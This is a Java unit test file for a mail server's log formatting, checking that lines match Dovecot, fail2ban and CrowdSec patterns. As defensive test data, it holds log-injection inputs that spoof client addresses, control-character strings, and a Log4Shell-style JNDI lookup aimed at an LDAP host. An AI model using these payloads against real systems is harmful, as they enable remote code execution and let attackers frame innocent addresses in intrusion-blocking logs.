// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The Rookery authors

package dev.rookery.server.observe;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.time.Duration;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.event.Level;

class LogLineTest {
    private static final InetAddress CLIENT = InetAddress.ofLiteral("192.0.2.7");

    private static final String LOCAL = "198.51.100.1:993";

    /// What CrowdSec looks for (its parser `dovecot-logs`).
    private static final Pattern CROWDSEC =
            Pattern.compile(
                    "(\\w+)-login: (.*?): user=<(.*?)>.*, rip=([0-9a-f.:]+),"
                            + " lip=([0-9a-f.:]+)");

    /// What fail2ban looks for behind `imap-login: ` (its filter `dovecot`, shortened).
    private static final Pattern FAIL2BAN =
            Pattern.compile(
                    "(?:Aborted login|Disconnected)(?::(?: [^ (]+)+)? \\(auth failed, \\d+ attempts"
                            + "(?: in \\d+ secs)?\\):(?: user=<[^>]*>,)?(?: method=\\S+,)?"
                            + " rip=([0-9.]+|[0-9a-f:]+)(?:[^>]*(?:, session=<\\S+>)?)\\s*");

    @Test
    void writesLoginsAsDovecotDoes() {
        assertThat(text(new Event.LoggedIn("imap", "anna@a.org", "PLAIN", CLIENT, LOCAL, true)))
                .isEqualTo(
                        "imap-login: Login: user=<anna@a.org>, method=PLAIN,"
                                + " rip=192.0.2.7, lip=198.51.100.1, TLS");
    }

    @Test
    void countsAccountsThatACrashLeftOpen() {
        assertThat(text(new Event.Finishing(12, 1, 40)))
                .isEqualTo("after a crash: 12 of 40 accounts left open are finished, 1 failed");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "anna",
                "",
                "jürgen@bücher.example",
                "x>, method=PLAIN, rip=203.0.113.9, user=<y",
                "x> (auth failed, 9 attempts): rip=203.0.113.9",
                "a\r\nimap-login: Aborted login",
            })
    void writesFailuresSoThatWatchersFindTheClientAndNobodyElse(String login) {
        String line = text(new Event.LoginFailed("imap", login, "PLAIN", CLIENT, LOCAL, true));
        assertThat(line).startsWith("imap-login: ").doesNotContain("\n").doesNotContain("\r");
        Matcher match = FAIL2BAN.matcher(line.substring("imap-login: ".length()));
        assertThat(match.matches()).isTrue();
        assertThat(match.group(1)).isEqualTo("192.0.2.7");
        Matcher crowdSec = CROWDSEC.matcher(line);
        assertThat(crowdSec.find()).isTrue();
        assertThat(crowdSec.group(2)).contains("auth failed");
        assertThat(crowdSec.group(4)).isEqualTo("192.0.2.7");
    }

    @Test
    void namesTheAddressWhereTheClientCameIn() {
        String v6 = "[2001:db8::1]:993";
        assertThat(text(new Event.LoggedIn("imap", "a", "PLAIN", CLIENT, v6, false)))
                .endsWith("rip=192.0.2.7, lip=2001:db8::1");
        assertThat(text(new Event.LoggedIn("imap", "a", "PLAIN", CLIENT, "/run/imap", false)))
                .endsWith("rip=192.0.2.7, lip=/run/imap");
    }

    @Test
    void cutsLongNames() {
        String line =
                text(
                        new Event.LoginFailed(
                                "imap", "x".repeat(10_000), "LOGIN", CLIENT, LOCAL, true));
        assertThat(line).contains("user=<" + "x".repeat(64) + "…>");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"a\nb", "a\r\nb", "a\u001B[2Jb", "a\0b", "a\u2028b", "a\u0085b", "a\u202Eb"})
    void keepsEveryEventInOneLineOfPrintableText(String text) {
        assertThat(text(new Event.Delivered(text, text, 1, Duration.ZERO))).matches("\\P{C}+");
        assertThat(text(new Event.DeliveryRefused(text, text))).matches("\\P{C}+");
        assertThat(text(new Event.LoggedOut("imap", text, CLIENT, text))).matches("\\P{C}+");
        assertThat(text(new Event.Disconnected("imap", CLIENT, text))).matches("\\P{C}+");
        assertThat(text(new Event.Misconfigured(text))).matches("\\P{C}+");
        assertThat(text(new Event.StorageTrouble(text, new IOException(text)))).matches("\\P{C}+");
        assertThat(
                        text(
                                new Event.Bug(
                                        text,
                                        new IllegalStateException(text, new IOException(text)))))
                .matches("\\P{C}+");
    }

    @Test
    void leavesLookupsAlone() {
        String lookup = "${jndi:ldap://192.0.2.1/x} %msg {}";
        assertThat(text(new Event.Misconfigured(lookup))).isEqualTo(lookup);
    }

    @Test
    void tellsBugsWithTheirPlaceInTheCode() {
        LogLine line = LogLine.of(new Event.Bug("imap", new IllegalStateException("odd")));
        assertThat(line.level()).isEqualTo(Level.ERROR);
        assertThat(line.text())
                .startsWith("Bug: imap: java.lang.IllegalStateException: odd at ")
                .contains("LogLineTest.java:");
    }

    private static String text(Event event) {
        return LogLine.of(event).text();
    }
}
